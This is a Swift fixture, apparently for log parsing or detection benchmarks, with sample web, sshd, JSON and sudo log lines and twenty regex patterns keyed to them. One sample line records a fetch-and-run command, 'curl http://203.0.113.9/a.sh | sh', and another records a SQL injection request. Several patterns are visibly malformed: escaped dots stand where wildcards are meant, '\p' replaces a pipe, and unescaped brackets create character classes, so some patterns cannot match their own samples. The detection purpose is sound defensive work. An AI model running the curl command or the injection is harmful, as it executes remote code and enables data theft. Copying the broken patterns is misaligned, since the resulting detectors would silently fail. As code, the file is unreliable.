import Bytes

/// Twenty patterns of usual kinds and lines of our own of the four kinds that they were written for.
package enum Laboratory {
  package enum Kind: Int, CaseIterable { case web, sshd, json, sudo }

  package static let lines: [Kind: ByteString] = [
    .web: """
    203.0.113.77 - - [10/Oct/2025:13:55:36 +0000] "GET /wp-admin/index.php?id=1+union+select+user,password+from+users \
    HTTP/1.1" 404 2326 "https://shop.example.com/start?page=checkout&step=2" "Mozilla/5.0 (X11; Linux x86_64) \
    AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
    """,
    .sshd: """
    Oct 10 13:55:36 web01 sshd[24217]: Failed password for invalid user deploy from 198.51.100.23 port 48122 ssh2
    """,
    .json: """
    {"time":"2025-10-10T13:55:36Z","name":"process_exec","args":["curl http://203.0.113.9/a.sh | sh"],\
    "action":"executed","category":["process"],"pid":28113,"ppid":1,"cwd":"/tmp","user":{"id":"1001","name":"deploy"},\
    "host":{"name":"web01","os":"debian"},"container":{"id":"c0ffee","image":"registry.example.com/shop/web:1.4"},\
    "severity":"high"}
    """,
    .sudo: """
    Oct 10 13:55:36 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart \
    nginx.service
    """,
  ]

  package static let patterns: [(Kind, ByteString)] = [
    (.web, #"^(\S+) \S+ \S+ \.*"(\w+) (\S+)"#),
    (.web, #"^(\d+.\d+.\d+.\d+) \S+ (\S+) [\S+ \S+] "(\w+) (\S+) HTTP\S+" (\d+)"#),
    (.web, #""\w+ \S+ HTTP/\d.\d" (\d+) (\d+)"#),
    (.web, #"union\.+select|select\.+from|insert\.+into"#),
    (.web, #"^\S+ \S+ \S+ [\S+ \S\d+] "\w+ \.+.php\.* 404"#),
    (.web, #"Mozilla\.+Chrome/(\d+)"#),
    (.web, #"wp-content|wp-admin|wp-login.php|xmlrpc.php"#),
    (.sshd, #"Failed \S+ for (\S+) from (\S+) port (\d+) \w+$"#),
    (.sshd, #"Failed \S+ for invalid user (\S+) from (\S+) port (\d+)"#),
    (.sshd, #"^\w+ \d+ \d+:\d+:\d+ (\S+) (\w+)[(\d+)]: "#),
    (.sshd, #"invalid user|illegal user|authentication failure"#),
    (.sshd, #" from (\S+) port (\d+)"#),
    (.sshd, #"for invalid user (\w+) from (\d+.\d+.\d+.\d+)"#),
    (.sshd, #"sshd[\d+]: \w+ password for \.+ from (\S+)"#),
    (.json, #""name":"(\w+)","args""#),
    (.json, #""action":"(\S+)","category":["(\w+)"]"#),
    (.json, #"curl http://(\S+) \p sh"#),
    (.json, #""pid":(\d+),\.+"user":{"id":"(\d+)""#),
    (.sudo, #"^\w+ \d+ \S+ \S+ sudo:\s*(\w+) : TTY=\S+ ; PWD=\S+ ; USER=\S+ ; COMMAND=(\.+)$"#),
    (.sudo, #"USER=root ; COMMAND=(\S+) (\w+) (\S+)"#),
  ]
}
